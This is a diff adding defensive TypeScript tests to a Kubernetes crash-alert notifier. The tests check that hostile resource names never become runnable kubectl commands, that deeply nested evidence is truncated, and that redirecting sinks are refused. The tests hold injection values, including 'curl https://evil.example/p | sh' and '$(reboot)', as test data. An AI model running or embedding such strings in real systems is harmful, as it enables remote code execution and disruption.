@@ -364,6 +364,87 @@ describe('grouping', () => {
   });
 });
 
+/** A signal as JSON text: `edit` changes the data first; "DEEP" in it becomes `depth` nested arrays. */
+function rawSignal(key: string, edit: (d: Record<string, unknown>) => Record<string, unknown>, depth = 0): Promise<Response> {
+  n++;
+  const data = edit({
+    class: 'crashloop',
+    severity: 'warning',
+    reason: 'BackOff',
+    message: 'Back-off restarting failed container',
+    target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'ops', name: `w${n}`, resolvedBy: 'ownerReferences' },
+    involved: { apiVersion: 'v1', kind: 'Pod', namespace: 'ops', name: `w${n}-7d9c8b5f4-x2x7q` },
+    container: 'web',
+    occurrences: 3,
+    firstSeen: '2026-11-22T09:58:00.000Z',
+    lastSeen: '2026-11-22T10:00:00.000Z',
+    detectedBy: 'classify',
+    key,
+  });
+  return fetch(server.url, {
+    method: 'POST',
+    headers: {
+      'ce-specversion': '1.0',
+      'ce-id': `raw-${n}`,
+      'ce-source': '/reflex/classify',
+      'ce-type': `dev.reflex.signal.${String(data['class'])}`,
+      'content-type': 'application/json',
+    },
+    body: JSON.stringify(data).replace('"DEEP"', '['.repeat(depth) + ']'.repeat(depth)),
+  });
+}
+
+describe('what the cluster wrote cannot hurt the reader or the sink (issue 15)', () => {
+  it('a hostile pod, namespace or container name never becomes a shell command', async () => {
+    const hostile = 'x; curl https://evil.example/p | sh';
+    const res = await rawSignal('00000000000000e1', (d) => ({
+      ...d,
+      involved: { apiVersion: 'v1', kind: 'Pod', namespace: 'ops', name: `web-1$(reboot)` },
+      container: `w'; ${hostile}; '`,
+      target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'ops', name: hostile, resolvedBy: 'ownerReferences' },
+    }));
+    expect(res.status).toBe(202);
+    const hit = slack.hits[0]!.raw;
+    const kubectl = (hook.hits[0]!.body as { kubectl: string[] }).kubectl;
+    expect(kubectl.length).toBeGreaterThan(0);
+    for (const line of kubectl) {
+      expect(line).toMatch(/^# /);
+      expect(line).not.toContain('curl');
+      expect(line).not.toContain('reboot');
+    }
+    expect(hit).not.toMatch(/kubectl [^`]*curl/);
+  });
+
+  it('4,000 and 100,000 levels of evidence reach the webhook cut to a bounded depth, not a 500', async () => {
+    for (const [i, depth] of [4000, 100_000].entries()) {
+      const res = await rawSignal(`00000000000000f${i}`, (d) => ({ ...d, evidence: { api: 'Pod', object: { spec: 'DEEP' } } }), depth);
+      expect(res.status).toBe(202);
+      const raw = hook.hits.at(-1)!.raw;
+      expect(raw).toContain('deeper than 64 levels');
+      expect(raw.length).toBeLessThan(8 * 1024);
+    }
+  });
+
+  it('a sink that redirects is a permanent failure: the signed body and the routing key never follow the Location', async () => {
+    const elsewhere = await fakeSink();
+    try {
+      for (const s of [pager, hook, slack]) s.answer = { status: 307, headers: { location: elsewhere.url } };
+      const res = await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'ops', name: 'r1' }, '00000000000000e2');
+      // Not retried: another delivery would be redirected the same way.
+      expect(res.status).toBe(202);
+      expect([pager.hits.length, hook.hits.length, slack.hits.length]).toEqual([1, 1, 1]);
+      expect(elsewhere.hits).toHaveLength(0);
+      expect(logs.some((l) => l.includes('sink refused the notification') && l.includes('"status":307') && l.includes('redirect'))).toBe(
+        true,
+      );
+      await signal('crashloop', 'critical', { kind: 'Deployment', namespace: 'ops', name: 'r1' }, '00000000000000e2');
+      expect([pager.hits.length, elsewhere.hits.length]).toEqual([1, 0]);
+    } finally {
+      await elsewhere.close();
+    }
+  });
+});
+
 describe('delivery', () => {
   it('a sink 5xx is a 503 for the Broker; the retry goes only to the sink that still needs it', async () => {
     slack.answer = { status: 502 };
